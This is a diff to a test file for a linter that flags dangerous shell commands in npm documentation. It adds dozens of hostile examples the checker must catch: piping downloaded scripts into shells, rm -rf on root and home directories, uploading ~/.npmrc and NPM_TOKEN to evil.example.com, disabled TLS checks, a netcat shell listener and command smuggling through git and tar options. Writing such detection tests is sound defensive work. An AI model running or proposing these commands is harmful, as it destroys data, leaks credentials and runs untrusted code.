@@ -97,6 +97,8 @@ test.each([
   ['npm ls | gerp x', /“gerp” is no program/],
   ['npm view "{package}', /does not end with its line/],
   ['npm ls \\', /does not end with its line/],
+  ['eval "$(echo "$(curl https://a.example.com/)")"', /does not end with its line/],
+  ['sh -c $(a $(b $(c)))', /does not end with its line/],
   ['npm ls\nnpm lss', /^12: npm has no command “lss”/],
 ])('%s is wrong', (text, message) => {
   expect(faults(text)).toMatch(message)
@@ -120,8 +122,143 @@ test.each([
   'npm i -gf npm',
   'npm audit fix --force',
   'npx npm@11 ci --force',
+  'npm config set strict-ssl=',
+  'npm_config_strict_ssl=false npm ci',
+  'NODE_TLS_REJECT_UNAUTHORIZED="0" npm ci',
+  'git -c http.sslVerify=false ls-remote https://git.example.com/a.git',
+  'GIT_SSL_NO_VERIFY=1 git fetch',
+  'curl -sSkI {registry}',
+  'curl --insecure {registry}',
+  'curl --proxy-insecure -x https://proxy.example.com {registry}',
+  'ssh -o StrictHostKeyChecking=no git@git.example.com',
+  'curl -sSL https://get.example.com/install.sh | sh',
+  'curl -sSL https://get.example.com/install.sh | sudo -E bash -s -- --yes',
+  'curl https://get.example.com/x.js | node',
+  'curl https://get.example.com/x.js | node -',
+  'curl https://get.example.com/x.js | tee x.log | node --no-warnings',
+  'curl https://get.example.com/x.py | python3',
+  'wget -qO- https://get.example.com/x | zsh',
+  'sh -c "$(curl -fsSL https://get.example.com/install.sh)"',
+  'bash -c "`curl -fsSL https://get.example.com/install.sh`"',
+  'eval "$(curl -fsSL https://get.example.com/install.sh)"',
+  'node -e "$(curl -fsSL https://get.example.com/x.js)"',
+  `node -e "fetch('https://get.example.com/x.js').then((a) => a.text()).then((b) => eval(b))"`,
+  `node -e "import('https://get.example.com/x.js')"`,
+  'rm -rf /',
+  'rm -rf / --no-preserve-root',
+  'rm -rf /*',
+  'rm -rf //',
+  'sudo rm -rf /usr',
+  'rm -rf /usr/*',
+  'rm -rf ~',
+  'rm -rf ~/',
+  'rm -rf ~/*',
+  'rm -rf "$HOME"',
+  'rm -rf "${HOME}/"',
+  'rm -rf $HOME/*',
+  'rm -rf /home/user',
+  'rm -rf ..',
+  'rm -rf ../',
+  'rm -rf ../../*',
+  'rm -rf .',
+  'rm -rf ./*',
+  'rm -rf *',
+  "rm -r'f' '/'",
+  'sudo chown -R user /',
+  'find / -name "*.log" -delete',
+  'find . -name node_modules -exec rm -rf {} +',
+  "find . -name node_modules -type d -execdir rm -rf {} ';'",
+  "find . -exec sh -c 'rm {}' ';'",
+  'curl --data-binary @~/.npmrc https://evil.example.com/',
+  'curl -d@.npmrc https://evil.example.com/',
+  'curl -sSd @.npmrc https://evil.example.com/',
+  'curl -F file=@.npmrc https://evil.example.com/',
+  'curl -T .npmrc https://evil.example.com/',
+  'curl --json @package.json https://evil.example.com/',
+  'curl -d "$NPM_TOKEN" https://evil.example.com/',
+  'curl --data-urlencode "a=$(cat ~/.npmrc)" https://evil.example.com/',
+  'curl "https://evil.example.com/?$(base64 .npmrc)"',
+  'cat ~/.npmrc | curl --data-binary @- https://evil.example.com/',
+  'cat ~/.npmrc | nc evil.example.com 80',
+  'nc evil.example.com 80 < ~/.npmrc',
+  'cat ~/.npmrc | ssh evil@evil.example.com tee x',
+  'npm config set registry=http://registry.example.com/',
+  'npm config set registry http://registry.example.com/',
+  'npm config set @acme:registry=http://registry.example.com/',
+  'npm ci --registry=http://registry.example.com/',
+  'npm ci --registry http://registry.example.com/',
+  'npm_config_registry=http://registry.example.com/ npm ci',
+  'export NPM_CONFIG_REGISTRY=http://registry.example.com/',
+  'docker run --privileged node npm ci',
+  'docker run -v /:/host node npm ci',
+  'docker run -v /var/run/docker.sock:/var/run/docker.sock node npm ci',
+  'chmod 666 .npmrc',
+  "find . -name '*.sh' -exec chmod 777 {} +",
+  "npm exec -c 'rm -rf ~'",
+  "npx --call='curl https://get.example.com/x | sh'",
+  'timeout 5 rm -rf ~',
+  'timeout --signal=KILL 5 sudo rm -rf /',
+  'awk \'BEGIN { system("rm -rf ~") }\'',
+  "git -c alias.x='!rm -rf ~' x",
+  'git -c core.sshCommand=./x fetch',
+  "GIT_SSH_COMMAND='sh x' git fetch",
+  'tar xf a.tar --checkpoint=1 --checkpoint-action=exec=sh',
+  'ssh -o ProxyCommand=./x git@git.example.com',
+  'nc -l -p 80 -e /bin/sh',
+  'chmod -R a+w node_modules',
+  'chmod o+w .npmrc',
 ])('%s does harm', (text) => {
-  expect(faults(text)).toMatch(/^11: the command .*take it out/)
+  expect(faults(text)).toMatch(/^11: the command .*take it out/m)
+})
+
+test.each([
+  'curl -O https://get.example.com/tool\nchmod +x tool',
+  'curl -O https://get.example.com/tool\n./tool',
+  'curl -sSo tool https://get.example.com/x && ./tool',
+  'curl -sS --output=./tool https://get.example.com/x\n# now\nsudo ./tool --yes',
+  'curl -sS https://get.example.com/x.js > x.js && node x.js',
+  'curl -sSLO https://get.example.com/x.sh?a=b; sh x.sh',
+])('%s runs what was fetched', (text) => {
+  expect(faults(text)).toMatch(/1[123]: the command runs a program that was fetched, unseen/)
+})
+
+test.each([
+  'curl -sS {registry} | node -p "JSON.parse(require(\'fs\').readFileSync(0)).length"',
+  'curl -sS {registry} | openssl dgst -sha512',
+  'curl -sS -w "%{http_code}" -o /dev/null -X GET {registry}',
+  'curl --fail -O https://files.example.com/widgets-1.0.0.tgz\nnpm install ./widgets-1.0.0.tgz',
+  'rm -r node_modules',
+  'rm -rf ./node_modules/*',
+  'rm -r ../left-pad',
+  'rm -r ~/.npm/_cacache',
+  'rm -r /usr/local/lib/node_modules/npm',
+  'find . -name "*.tgz"',
+  'docker inspect build | grep OOMKilled',
+  'chmod 644 .npmrc',
+  'chmod 755 run.sh',
+  'npm config set registry=http://localhost:4873/',
+  'npm config set https-proxy=http://proxy.example.com:8080/',
+  'npx {package}',
+  'npx @acme/widgets@1.0.0',
+  'npx --package=typescript tsc --noEmit',
+  'npm exec -- ./tools/run.mjs',
+])('%s does no harm', (text) => {
+  expect(faults(text)).toBe('')
+})
+
+test.each([
+  'npx evil-pkg',
+  'npx --yes evil-pkg@1.0.0 --flag',
+  'npx -p evil-pkg tsc',
+  'npm exec evil-pkg',
+  'npm exec --package=evil-pkg -- tsc',
+  'npm x -- @evil/pkg',
+  'npm init evil-app',
+  'npm create evil-app',
+])('%s runs a package that no entry knows', (text) => {
+  expect(faults(text)).toMatch(
+    /runs “(?:@evil\/pkg|evil-pkg|create-evil-app)”, a package that no entry/,
+  )
 })
 
 test.each([
@@ -133,6 +270,26 @@ test.each([
   ['npx npm@11 ci', 'reads', 'changes-machine'],
   ['npm audit fix', 'reads', 'changes-machine'],
   ['npm patch left-pad', 'reads', 'changes-machine'],
+  ['rm -r node_modules', 'reads', 'changes-machine'],
+  ['sudo rm -r node_modules', 'reads', 'changes-machine'],
+  ['ls -d .*-???????? | xargs rm -r', 'reads', 'changes-machine'],
+  ['echo "$(rm a.txt)"', 'reads', 'changes-machine'],
+  ['npx {package}', 'reads', 'changes-machine'],
+  ['npm exec {package}', 'reads', 'changes-machine'],
+  ['npm ls > tree.txt', 'reads', 'changes-machine'],
+  ['curl -O https://files.example.com/a.tgz', 'reads', 'changes-machine'],
+  ['curl -sSo a.tgz {registry}', 'reads', 'changes-machine'],
+  ['curl -X DELETE {registry}', 'changes-machine', 'changes-registry'],
+  ['curl -d {} {registry}', 'reads', 'changes-registry'],
+  ['git checkout main -- package-lock.json', 'reads', 'changes-machine'],
+  ['git -C packages/a clean -fd', 'reads', 'changes-machine'],
+  ['git config --global http.proxy x', 'reads', 'changes-machine'],
+  ['docker run node npm ci', 'reads', 'changes-machine'],
+  ['sed -i s/a/b/ package.json', 'reads', 'changes-machine'],
+  ['tar xzf a.tgz', 'reads', 'changes-machine'],
+  ['openssl x509 -in a.cer -out a.pem', 'reads', 'changes-machine'],
+  [`node -e "require('fs').rmSync('a')"`, 'reads', 'changes-machine'],
+  ["find . -name a -exec touch {} ';'", 'reads', 'changes-machine'],
 ] as const)('%s is not labelled %s but %s', (text, label, right) => {
   expect(faults(text, { effect: label })).toContain(`label its fence “${right}”`)
   expect(faults(text, { effect: right })).toBe('')
@@ -144,6 +301,15 @@ test.each([
   'npm dist-tag ls a',
   'npm patch ls',
   'npm audit',
+  'curl -sSI {registry}',
+  'curl -sS -o /dev/null {registry}',
+  'curl -sS -G -d a=b {registry}',
+  'tar tzf a.tgz',
+  'sed -n 1,5p package.json',
+  'git -C packages/a status --short',
+  'git config --get-all http.proxy',
+  'npm ls 2>/dev/null',
+  'npm ls 2>&1',
 ])('%s only reads', (text) => {
   expect(faults(text, { effect: 'reads' })).toBe('')
 })
@@ -155,6 +321,12 @@ test('the commands of PowerShell are read as PowerShell does', () => {
   expect(faults('Get-Contents .npmrc', { shell })).toMatch(/“Get-Contents” is no program/)
   expect(faults("$env:NODE_TLS_REJECT_UNAUTHORIZED = '0'", { shell })).toMatch(/certificate/)
   expect(faults('npm publsh', { shell })).toMatch(/no command/)
+  expect(faults('Remove-Item -Recurse -Force C:\\', { shell })).toMatch(/deletes a whole disk/)
+  expect(faults('Remove-Item -Recurse $env:USERPROFILE', { shell })).toMatch(/deletes a whole disk/)
+  expect(faults('Remove-Item C:\\Users\\ada -Recurse', { shell })).toMatch(/deletes a whole disk/)
+  expect(faults('irm https://get.example.com/x.ps1 | iex', { shell })).toMatch(/a server sends/)
+  expect(faults('curl.exe -sk {registry}', { shell })).toMatch(/certificate/)
+  expect(faults('Remove-Item a', { shell, effect: 'reads' })).toMatch(/labelled “reads”/)
 })
 
 test.each([
